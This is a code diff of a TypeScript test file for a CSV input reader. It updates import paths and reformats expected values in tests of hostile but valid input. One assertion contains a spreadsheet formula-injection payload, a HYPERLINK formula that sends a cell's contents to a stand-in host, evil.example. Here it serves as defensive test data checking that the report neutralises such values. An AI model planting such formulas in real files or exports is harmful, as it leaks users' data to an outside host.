@@ -3,10 +3,10 @@ import os from 'node:os';
 import path from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { gzipSync } from 'node:zlib';
-import { InputError } from '../../src/errors.js';
-import { ExitCode } from '../../src/exit-codes.js';
-import { openInputs, readInputs, type FileFacts, type InputFile, type InputOptions } from '../../src/input/index.js';
-import type { InputRow } from '../../src/types.js';
+import { InputError } from '../../src/core/errors.js';
+import { ExitCode } from '../../src/core/exit-codes.js';
+import { openInputs, readInputs, type FileFacts, type InputFile, type InputOptions } from '../../src/pipeline/input/index.js';
+import type { InputRow } from '../../src/core/types.js';
 
 const HOSTILE = fileURLToPath(new URL('../../fixtures/hostile/', import.meta.url));
 const OPTS: InputOptions = { idColumn: 'document_id', skipEmpty: false, maxRecordBytes: 1 << 20, maxFields: 1000 };
@@ -135,7 +135,10 @@ describe('hostile input that is not an error', () => {
     for (const encoding of ['latin1', 'windows-1252'] as const) {
       const facts: FileFacts[] = [];
       const rows = await collect([hostile('latin1.csv')], facts, { encoding });
-      expect(rows[1]?.segments).toEqual([{ type: 'tier', value: 'silver' }, { type: 'city', value: 'Bogotá' }]);
+      expect(rows[1]?.segments).toEqual([
+        { type: 'tier', value: 'silver' },
+        { type: 'city', value: 'Bogotá' },
+      ]);
       expect(facts[0]?.encoding).toBe(encoding);
     }
   });
@@ -164,6 +167,9 @@ describe('hostile input that is not an error', () => {
   test('formula-like ids and values pass through unchanged (the report neutralises them)', async () => {
     const rows = await collect([hostile('formula-injection.csv')]);
     expect(rows.map((r) => r.id)).toEqual(['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '2009-1002', '-2009-1003', '@2009-1004']);
-    expect(rows[1]?.segments).toEqual([{ type: 'tier', value: '+SUM(1+2)' }, { type: 'note', value: '=1+2' }]);
+    expect(rows[1]?.segments).toEqual([
+      { type: 'tier', value: '+SUM(1+2)' },
+      { type: 'note', value: '=1+2' },
+    ]);
   });
 });
